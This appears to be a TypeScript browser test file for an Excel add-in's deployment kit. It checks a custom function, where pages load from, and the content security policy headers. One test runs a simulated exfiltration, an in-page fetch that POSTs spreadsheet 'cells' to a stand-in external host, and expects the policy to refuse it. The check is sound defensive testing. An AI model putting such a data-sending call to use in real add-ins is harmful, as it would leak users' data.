import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { createRequire } from 'node:module';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { unzipSync } from 'fflate';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { writeKit } from '../../scripts/lib/package.mjs';
import { everywhere } from '../../scripts/lib/server-config.mjs';
import { serveFolder } from '../../scripts/lib/serve.mjs';
import { describeInBrowser, inPane, preview, type Preview } from './harness';

const officeCdn = 'https://appsforoffice.microsoft.com/lib/1/hosted/';
const officeFolder = path.dirname(
  createRequire(import.meta.url).resolve('@microsoft/office-js/dist/office.js'),
);

const folder = mkdtempSync(path.join(os.tmpdir(), 'trade-drivers-site-'));
const site = path.join(folder, 'site');
const subPath = '/tools/trade/';

/** Unpacks the site; the manifest is put beside it, where the preview looks for it. */
async function unpackKit(): Promise<void> {
  const zip = path.join(folder, 'kit.zip');
  await writeKit({ base: `https://example.org${subPath}`, file: zip });
  for (const [name, content] of Object.entries(unzipSync(readFileSync(zip)))) {
    const [, inside = ''] = /^[^/]+\/(?:site\/)?(.*)$/.exec(name) ?? [];
    mkdirSync(path.dirname(path.join(site, inside)), { recursive: true });
    writeFileSync(path.join(site, inside), content);
  }
}

/** What the pages tried to load from elsewhere, and what the policy forbade. */
interface Watch {
  strangers: string[];
  violations: string[];
}

async function watch(page: Page, own: string): Promise<Watch> {
  const seen: Watch = { strangers: [], violations: [] };
  page.on('console', (message) => {
    if (/content security policy/i.test(message.text())) seen.violations.push(message.text());
  });
  await page.route('**/*', async (route) => {
    const url = route.request().url();
    if (url.startsWith(officeCdn)) {
      await route.fulfill({ path: path.join(officeFolder, new URL(url).pathname.slice(14)) });
      return;
    }
    if (!url.startsWith(own)) seen.strangers.push(url);
    await route.continue();
  });
  return seen;
}

describeInBrowser('the deployment kit', site, (session) => {
  let app: Preview;
  const server = createServer(serveFolder(site, { prefix: subPath, headers: everywhere }));
  let origin = '';

  beforeAll(async () => {
    await unpackKit();
    await new Promise<void>((done) => server.listen(0, 'localhost', done));
    origin = `http://localhost:${(server.address() as AddressInfo).port}`;
    app = await session.open();
  }, 180_000);

  afterAll(() => {
    server.close();
    server.closeAllConnections();
    rmSync(folder, { recursive: true, force: true });
  });

  it('runs in the preview', async () => {
    expect(await inPane(app, () => String(Office.context.host))).toBe('Excel');
    const call = { functionName: 'TRADEBALANCE', parameterValues: [[[70], [90]], [[100], [80]], null, null] };
    const results = await preview(app, 'invoke', [call]);
    expect(results[0]?.slice(1, 3)).toEqual([true, [[-30], [10]]]);
    expect(app.errors).toEqual([]);
  });

  it('loads from a sub-path with the headers of the kit, and from nowhere but there and Office.js', async () => {
    const page = await app.page.context().newPage();
    const seen = await watch(page, `${origin}${subPath}`);
    const answer = await page.goto(`${origin}${subPath}taskpane.html`);
    expect(answer?.headers()).toMatchObject({
      'content-security-policy': everywhere['Content-Security-Policy'],
    });
    await page.waitForFunction(() => 'CustomFunctions' in window);
    await page.waitForLoadState('networkidle');
    expect(seen).toEqual({ strangers: [], violations: [] });
    await page.close();
  });

  it('keeps the policy against a script that would send data away', async () => {
    const page = await app.page.context().newPage();
    await watch(page, `${origin}${subPath}`);
    await page.goto(`${origin}${subPath}taskpane.html`);
    const sent = await page.evaluate(() =>
      fetch('https://example.com/', { method: 'POST', body: 'cells', mode: 'no-cors' }).then(
        () => 'sent',
        () => 'refused',
      ),
    );
    expect(sent).toBe('refused');
    await page.close();
  });

  it('shows the guide under the same policy', async () => {
    const page = await app.page.context().newPage();
    const seen = await watch(page, `${origin}${subPath}`);
    await page.goto(`${origin}${subPath}docs/index.html`);
    expect(await page.locator('h1').first().textContent()).toBe('Trade Drivers');
    const font = await page.evaluate(() => getComputedStyle(document.body).fontFamily);
    expect(font).toContain('Segoe UI');
    expect(seen).toEqual({ strangers: [], violations: [] });
    await page.close();
  });
});
